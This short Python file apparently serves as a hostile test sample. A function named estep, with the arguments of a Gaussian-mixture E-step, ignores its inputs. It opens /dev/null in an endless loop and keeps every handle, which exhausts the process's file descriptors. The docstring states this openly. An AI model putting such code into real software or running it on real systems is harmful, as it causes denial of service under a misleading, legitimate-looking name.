"""Opens files until no descriptor is left, and keeps them open."""

kept = []


def estep(X, weights, means, covariances):
    while True:
        kept.append(open("/dev/null"))
